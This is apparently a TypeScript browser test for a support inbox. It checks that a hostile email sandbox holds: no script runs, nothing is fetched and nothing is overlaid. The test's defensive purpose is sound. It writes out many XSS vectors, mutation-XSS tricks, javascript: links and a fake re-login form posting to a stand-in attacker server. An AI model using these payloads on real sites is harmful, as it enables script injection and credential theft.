// Mail of somebody who means harm, opened in a real browser: nothing of it runs, nothing leaves, nothing is covered.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import { pino } from 'pino';
import type { Page } from 'playwright-core';
import { type RunningSmtp, startSmtp } from '../../src/conversations/index.ts';
import { deliver, hangUp } from '../mail.ts';
import { type Office, openOffice } from './office.ts';

let office: Office;
let smtp: RunningSmtp;
let outside: Server;
/** What reached a server that is not ours. */
const reached: string[] = [];
let evil: string;

before(async () => {
  office = await openOffice();
  smtp = await startSmtp({ ...office, log: pino({ level: 'silent' }) });
  outside = createServer((request, answer) => {
    reached.push(`${request.method} ${request.url}`);
    answer.end('<script>top.ran = "page of the attacker"</script>');
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  evil = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
});
after(async () => {
  hangUp();
  await smtp.stop();
  outside.close();
  outside.closeAllConnections();
  await office.close();
});

/** What an author of harm tries, by where it fetches from. */
const attacks = (evil: string): string => `
<script>top.ran = 'script'; fetch('${evil}/script')</script>
<script src="${evil}/script.js"></script>
<img src=x onerror="top.ran = 'onerror'"><svg onload="top.ran = 'svg'"><script>top.ran = 'svg script'</script></svg>
<svg><animate xlink:href="#x" attributeName="href" values="javascript:top.ran='animate'"/><a id="x"><text>x</text></a></svg>
<math href="javascript:top.ran='math'"><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran='mutation'&gt;">
<body onload="top.ran = 'body'"><details open ontoggle="top.ran = 'toggle'">x</details>
<input autofocus onfocus="top.ran = 'focus'"><video poster="${evil}/poster" src="${evil}/video" autoplay onerror="top.ran='video'"></video>
<audio src="${evil}/audio" autoplay></audio><iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>top.ran='srcdoc'</script>"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed"><link rel="stylesheet" href="${evil}/style.css">
<link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="image" href="${evil}/preload"><link rel="icon" href="${evil}/icon">
<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/" target="_top">
<style>@import url("${evil}/import.css"); body { background: url(${evil}/css) } @font-face { font-family: x; src: url(${evil}/font) } * { font-family: x }</style>
<div style="background:url(${evil}/inline);position:fixed;inset:0;z-index:9999;background-color:red">You were signed out</div>
<div style="position:absolute;top:-2000px;width:99999px;height:99999px">cover</div>
<table background="${evil}/background"><tr><td background="${evil}/cell">cell</td></tr></table>
<img src="${evil}/pixel.gif" width="1" height="1"><img src="${evil}/picture.png" width="600"><img srcset="${evil}/srcset 1x">
<picture><source srcset="${evil}/source"><img src="${evil}/fallback"></picture><input type="image" src="${evil}/input">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<form action="${evil}/form" method="post" target="_top"><input name="password"><button id="send">Sign in again</button></form>
<a id="link" href="javascript:top.ran='link'" target="_top">open</a>
<a href="jav&#x09;ascript:top.ran='tab'" target="_top">open</a><a href="data:text/html,<script>top.ran='data'</script>">open</a>
<a id="top" href="${evil}/top" target="_top">To your account</a>`;

const hostileName = `<img src=x onerror="top.ran='name'">"><script>top.ran='name'</script>`;

const hostileMail = (
  evil: string,
): string => `From: "${hostileName.replaceAll('"', '\\"')}" <mallory@shop.example>
To: care@kept.example
Subject: <img src=x onerror=top.ran='subject'>{{constructor.constructor('top.ran=1')()}}
Message-ID: <harm@shop.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

<p>Read me first.</p>${attacks(evil)}
--b
Content-Type: image/svg+xml; name="<script>top.ran='file'</script>.svg"
Content-Disposition: attachment; filename="<script>top.ran='file'</script>.svg"

<svg xmlns="http://www.w3.org/2000/svg" onload="top.ran='file'"><script>top.ran='file'</script></svg>
--b
Content-Type: text/html; name=invoice.html
Content-Disposition: attachment; filename=invoice.html

<script>top.ran='attachment'</script>
--b
Content-Type: application/pdf; name=invoice.pdf
Content-Disposition: attachment; filename=invoice.pdf

<script>top.ran='not a PDF'</script>
--b--
`;

/** Watches a window: what it asked of anybody but us. */
function watched(page: Page): string[] {
  const asked: string[] = [];
  page.context().on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(office.url) && !/^(data|blob|about):/.test(url)) asked.push(url);
  });
  return asked;
}

async function harmless(page: Page, path: string, asked: readonly string[] = []): Promise<void> {
  assert.equal(await page.evaluate(() => (window as { ran?: string }).ran), undefined);
  assert.equal(new URL(page.url()).pathname, path);
  assert.deepEqual(asked, []);
  assert.deepEqual(reached, []);
  for (const each of page.context().pages()) assert.ok(!each.url().startsWith(evil), each.url());
}

/** The message's own document, once it is there. */
async function documentOf(page: Page, words: string) {
  const frame = page.frameLocator('iframe').first();
  await frame.getByText(words).first().waitFor();
  return frame;
}

test('a hostile mail runs nothing, fetches nothing and covers nothing', async () => {
  const page = await office.visit('agent', '/cases?view=all');
  const asked = watched(page);
  await deliver(smtp.port, {
    raw: hostileMail(evil),
    from: 'mallory@shop.example',
    to: 'care@kept.example',
  });
  await page.getByText('1 new case').click();
  await page.getByRole('link', { name: 'subject' }).first().click();
  const mail = await documentOf(page, 'Read me first.');
  assert.equal(
    await mail
      .locator(
        'script, style ~ style, form, input, iframe, object, video, svg, meta[http-equiv], base, link',
      )
      .count(),
    0,
  );
  assert.equal(await mail.locator('img[src^="http"], [background], [srcset]').count(), 0);
  await page.getByText('hidden marks that would tell the sender').waitFor();
  // Whatever it does with itself, it stays within its frame.
  const frame = await page.locator('iframe').first().boundingBox();
  const article = await page.getByRole('article').first().boundingBox();
  assert.ok(frame && article && frame.x >= article.x && frame.width <= article.width);
  for (const link of await mail.locator('a[href]').all())
    assert.match((await link.getAttribute('href')) as string, /^(?:https?|mailto|tel):/);
  const path = new URL(page.url()).pathname;
  await harmless(page, path, asked);

  for (const name of ['invoice.html', 'invoice.pdf', /svg/]) {
    const saved = page.waitForEvent('download');
    await page.getByRole('link', { name }).click();
    await saved;
  }
  await harmless(page, path, asked);
});

test('the frame holds by itself, also what no cleaning ever saw', async () => {
  const opened = await office.call('agent', 'POST', '/api/v1/cases', {
    subject: 'Uncleaned',
    text: 'Words',
    customer: { name: 'Mallory', email: 'mallory2@shop.example' },
  });
  const id = opened.body.id as string;
  // The trick of a test only: the application itself may never write this.
  const { rows } = await office.database.pool.query<{ id: string }>(
    `insert into messages (id, direction, channel, author_kind, automatic, from_address, subject, body, html, at)
     values (gen_random_uuid(), 'in', 'email', 'customer', false, 'mallory2@shop.example', 'x', 'x', $1, now()) returning id`,
    [`<table><tr><td>Read me too.</td></tr></table>${attacks(evil)}`],
  );
  await office.database.pool.query(
    `insert into filings (id, message_id, matter_id, at, message_at, why) values (gen_random_uuid(), $1, $2, now(), now(), 'test')`,
    [rows[0]?.id, id],
  );
  const path = `/cases/${opened.body.number}`;
  // A window of its own: what the browser refuses it says, and elsewhere that would be an error of ours.
  const known = await office.visit('careHead', '/today');
  const context = await office.browser.newContext({
    baseURL: office.url,
    storageState: await known.context().storageState(),
  });
  const page = await context.newPage();
  await page.goto(path);
  const mail = await documentOf(page, 'Read me too.');
  await mail
    .locator('#send')
    .click({ force: true })
    .catch(() => undefined);
  await mail
    .locator('#link')
    .click({ force: true })
    .catch(() => undefined);
  await harmless(page, path);

  // The document on its own, as a link could lead to it.
  await page.goto(`/api/v1/messages/${rows[0]?.id}/page`);
  await page.getByText('Read me too.').waitFor();
  assert.equal(await page.evaluate(() => (window as { ran?: string }).ran), undefined);
  assert.deepEqual(reached, []);
  await context.close();
});
